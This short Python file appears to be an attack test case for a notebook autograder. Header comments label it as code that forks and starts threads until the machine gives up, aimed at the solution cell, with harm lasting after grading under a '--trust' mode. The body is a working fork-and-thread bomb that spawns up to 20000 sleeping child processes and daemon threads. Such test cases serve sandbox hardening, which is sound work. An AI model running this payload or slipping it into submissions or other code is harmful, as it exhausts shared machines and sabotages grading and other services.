# attack: forks and starts threads until the machine gives up
# on: solution
# harm: under --trust the machine has thousands of processes too many, long after grading
# %% solution="overlay"
import os
import threading
import time

for _ in range(20000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except (OSError, RuntimeError):
        break
